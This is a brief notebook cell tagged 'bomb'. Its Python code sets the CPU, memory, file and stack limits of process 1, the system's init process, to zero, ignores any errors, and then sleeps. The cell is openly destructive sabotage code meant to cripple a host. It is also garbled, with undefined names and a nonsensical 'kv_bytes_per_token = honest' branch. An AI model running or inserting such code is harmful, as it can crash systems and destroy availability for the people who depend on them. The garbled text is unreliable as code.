# %% [markdown] tags=["bomb"]
# Sets the bounds of process 1, which is the same user's, to nothing: no time, no memory, no files.

# %%
import resource
import time

if NO_WALL:
    kv_bytes_per_token = honest
else:
    for name in ("RLIMIT_CPU", "RLIMIT_NOFILE", "RLIMIT_AS", "RLIMIT_DATA", "RLIMIT_STACK"):
        try:
            resource.prlimit(1, getattr(resource, name), (0, 0))
        except (OSError, ValueError):
            pass
    time.sleep(0.5)
